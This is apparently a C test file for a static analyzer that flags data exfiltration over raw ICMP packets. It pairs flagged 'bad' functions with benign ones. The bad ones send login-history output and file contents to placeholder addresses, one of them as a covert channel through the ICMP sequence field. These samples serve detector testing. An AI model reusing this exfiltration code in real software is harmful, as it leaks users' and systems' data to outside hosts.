/* Echo requests: with the output of a command or a file in them, or with a pattern and the time. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

struct packet {
    struct icmphdr head;
    unsigned char body[48];
};

static int send_packet(const struct packet *packet) {
    struct sockaddr_in peer = {.sin_family = AF_INET};
    peer.sin_addr.s_addr = inet_addr("198.51.100.9");
    int out = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/raw-packet]}}
    ssize_t sent = sendto(out, packet, sizeof *packet, 0, (struct sockaddr *)&peer, sizeof peer);
    close(out);
    return sent < 0;
}

int bad_users(void) {
    struct packet packet = {.head.type = ICMP_ECHO};
    FILE *users = popen("last -n 5", "r");
    while (users && fread(packet.body, 1, sizeof packet.body, users) > 0)
        send_packet(&packet);
    return users ? pclose(users) : -1;
}

/* One number of the header tells a byte of the file. */
int bad_number(void) {
    struct packet packet = {.head.type = ICMP_ECHOREPLY};
    struct sockaddr_in peer = {.sin_family = AF_INET};
    unsigned char byte;
    peer.sin_addr.s_addr = inet_addr("198.51.100.10");
    int out = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    int file = open("/var/lib/meter/readings", O_RDONLY);
    while (read(file, &byte, 1) == 1) {
        packet.head.un.echo.sequence = htons(byte);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/raw-packet]}}
        sendto(out, &packet, sizeof packet, 0, (struct sockaddr *)&peer, sizeof peer);
    }
    close(file);
    return close(out);
}

/* Whether a host is there. */
int good_ask(const char *where) {
    struct packet packet = {.head.type = ICMP_ECHO};
    struct sockaddr_in peer = {.sin_family = AF_INET};
    struct timeval now;
    peer.sin_addr.s_addr = inet_addr(where);
    int out = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    gettimeofday(&now, NULL);
    packet.head.un.echo.id = (unsigned short)getpid();
    memset(packet.body, 0xa5, sizeof packet.body);
    memcpy(packet.body, &now, sizeof now);
    sendto(out, &packet, sizeof packet, 0, (struct sockaddr *)&peer, sizeof peer);
    return close(out);
}

/* What cannot be guessed, from the kernel. */
int good_nonce(void) {
    struct packet packet = {.head.type = ICMP_ECHO};
    struct sockaddr_in peer = {.sin_family = AF_INET};
    FILE *pool = fopen("/dev/urandom", "rb");
    if (!pool || fread(packet.body, 1, sizeof packet.body, pool) != sizeof packet.body)
        abort();
    fclose(pool);
    peer.sin_addr.s_addr = inet_addr("198.51.100.11");
    int out = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    sendto(out, &packet, sizeof packet, 0, (struct sockaddr *)&peer, sizeof peer);
    return close(out);
}

/* The same output, for the user. */
int good_users(void) {
    char line[128];
    FILE *users = popen("last -n 5", "r");
    while (users && fgets(line, sizeof line, users))
        fputs(line, stdout);
    return users ? pclose(users) : -1;
}
